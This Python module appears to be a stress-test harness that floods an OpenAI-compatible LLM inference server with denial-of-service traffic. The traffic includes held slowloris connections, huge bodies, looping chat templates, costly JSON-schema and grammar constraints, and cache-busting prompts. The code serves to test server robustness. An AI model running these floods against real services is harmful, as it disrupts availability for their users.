"""What clients that mean harm send, by kind; all with one key or none, from one address.

Each kind is a list of calls for threads of a process of its own: on a real network attackers have machines of their own, so that process takes
what is left of this one's cores.
"""

import itertools
import json
import os
import random
import resource
import selectors
import socket
import threading
import time

KEYS = {"attacker": "the-key-of-an-attacker", "other": "the-key-of-the-other"}
LARGEST = 4 << 20
# A template that reads a message as a key, in each of three ways, as often as a template may loop.
TEMPLATE = (
    "{% set m = {'a': 1} %}{% for i in range(100000) %}{% if messages[0].content in m or m[messages[0].content] "
    "or messages[0].content is lower %}{% endif %}{% endfor %}{{ messages[0].content }}"
)


def request(path, body, key=None, length=None):
    """The bytes of a request."""
    given = f"X-Api-Key: {KEYS[key]}\r\n" if key else ""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\n{given}Content-Type: application/json\r\nConnection: close\r\n"
        f"Content-Length: {len(body) if length is None else length}\r\n\r\n"
    )
    return head.encode() + body


def complete(**fields):
    body = {"prompt": "Once upon a time", "max_tokens": 64, "temperature": 1.5, **fields}
    return request("/v1/completions", json.dumps(body).encode(), "attacker")


def chat(text):
    body = json.dumps({"messages": [{"role": "user", "content": text}], "max_tokens": 1})
    return request("/v1/chat/completions", body.encode(), "attacker")


def form(schema):
    return {"response_format": {"type": "json_schema", "json_schema": {"name": "s", "schema": schema}}}


def large_bodies():
    room = LARGEST - 200
    message = b'{"role":"user","content":"a"},{"role":"assistant","content":"b"},'
    numbers = b'{"max_tokens":1,"prompt":[' + b"0," * (room // 2) + b"0]}"
    messages = b'{"max_tokens":1,"messages":[' + message * (room // len(message)) + message[:-1] + b"]}"
    return [
        chat("x" * room),
        chat("many words of a text " * (room // 21)),
        request("/v1/completions", numbers, "attacker"),
        request("/v1/chat/completions", messages, "attacker"),
    ]


def new_schemas():
    """Requests with a schema that no cache knows, for ever."""
    for i in itertools.count(random.randrange(1 << 40)):
        words = {"enum": [f"{i}-{k}" for k in range(2000)]}
        text = {"type": "string", "pattern": f"^(a|b{i}|[a-z]{{1,40}}x){{1,40}}$"}
        many = {f"p{i}_{k}": {"type": "integer", "minimum": k, "maximum": i + 12345 * k} for k in range(100)}
        for schema in (words, text, {"type": "object", "properties": many, "required": list(many)}, {"type": "array", "items": words, "maxItems": 1000}):
            yield complete(max_tokens=1, **form(schema))


def automata():
    """Divisors whose automata have no end, one of them in so many answers and prompts."""
    several = {"type": "integer", "allOf": [{"multipleOf": n} for n in (1009, 2003, 3001, 4001)]}
    largest = {"type": "array", "items": {"type": "integer", "multipleOf": 997}}
    return itertools.cycle([
        complete(**form({"type": "integer", "multipleOf": 9999991})),
        complete(**form(several)),
        complete(n=128, **form(largest)),
        complete(prompt=["a"] * 128, **form(largest)),
    ])


def slow_masks():
    """Grammars whose masks take long, for answers that do not end."""
    tree = {"type": "object", "properties": {"l": {"$ref": "#"}, "r": {"$ref": "#"}}, "required": ["l", "r"], "additionalProperties": False}
    return itertools.cycle([
        complete(max_tokens=500, grammar="start: /(.|\\n)*/"),
        complete(max_tokens=500, grammar='start: a*\na[suffix="x"]: /.*/'),
        complete(max_tokens=500, grammar='start: e\ne: e "+" e | e "*" e | "(" e ")" | /[0-9]+/'),
        complete(max_tokens=500, structured_outputs={"regex": "(.*a.{500}){20}"}),
        complete(max_tokens=500, **form(tree)),
    ])


def answers():
    """Requests for as many answers as there may be."""
    return itertools.repeat(complete(n=128, ignore_eos=True))


def long_prompts():
    """Prompts that no cache knows."""
    for i in itertools.count(random.randrange(1 << 40)):
        yield complete(prompt=f"{i} " + "a long text of many words " * 150, max_tokens=1)


# Requests that were answered, or given up, and connections that were held.
n_sent = itertools.count()


def send(address, requests, until):
    """Sends one after another, each when the one before it was answered."""
    for data in requests:
        if time.time() > until:
            break
        try:
            with socket.create_connection(address, timeout=60) as s:
                s.sendall(data)
                while s.recv(65536):
                    pass
        except OSError:
            pass
        next(n_sent)


def send_and_leave(address, data, until):
    """Sends again and again, and waits for no answer."""
    while time.time() < until:
        try:
            with socket.create_connection(address, timeout=60) as s:
                s.sendall(data)
                s.settimeout(2)
                s.recv(65536)
        except OSError:
            pass
        next(n_sent)


def hold(address, data, n, until):
    """Keeps so many connections that say this and no more."""
    held = selectors.DefaultSelector()
    while time.time() < until:
        for key, _ in held.select(0.05):
            try:
                if key.fileobj.recv(4096):
                    continue
            except OSError:
                pass
            held.unregister(key.fileobj)
            key.fileobj.close()
        for _ in range(min(100, n - len(held.get_map()))):
            try:
                s = socket.create_connection(address, timeout=5)
                s.sendall(data)
                s.setblocking(False)
                held.register(s, selectors.EVENT_READ)
                next(n_sent)
            except OSError:
                pass
        time.sleep(0.05)


def kinds():
    """Each kind's calls."""
    unfinished = request("/v1/completions", b'{"prompt":"' + b"a" * 65536, "attacker", LARGEST - 1)
    return {
        "idle": [(hold, b"", 1500)],
        "heads": [(hold, b"GET / HTTP/1.1\r\nX-A", 500)],
        "unfinished": [(hold, unfinished, 50)],
        "bodies": [(send, itertools.repeat(data)) for data in large_bodies() for _ in range(4)],
        "templates": [(send_and_leave, chat("x" * 200_000))] * 3,
        "schemas": [(send, new_schemas()) for _ in range(2)],
        "automata": [(send, automata()) for _ in range(4)],
        "masks": [(send, slow_masks()) for _ in range(7)],
        "answers": [(send, answers()) for _ in range(3)],
        "prompts": [(send, long_prompts()) for _ in range(2)],
    }


def attack(address, names, until, n_all):
    """Sends all of these kinds at once; leaves how many requests and connections that were in `n_all`."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    calls = [call for name, calls in kinds().items() if name in names for call in calls]
    threads = [threading.Thread(target=f, args=(address, *more, until), daemon=True) for f, *more in calls]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(1, until + 5 - time.time()))
    n_all.value = next(n_sent)
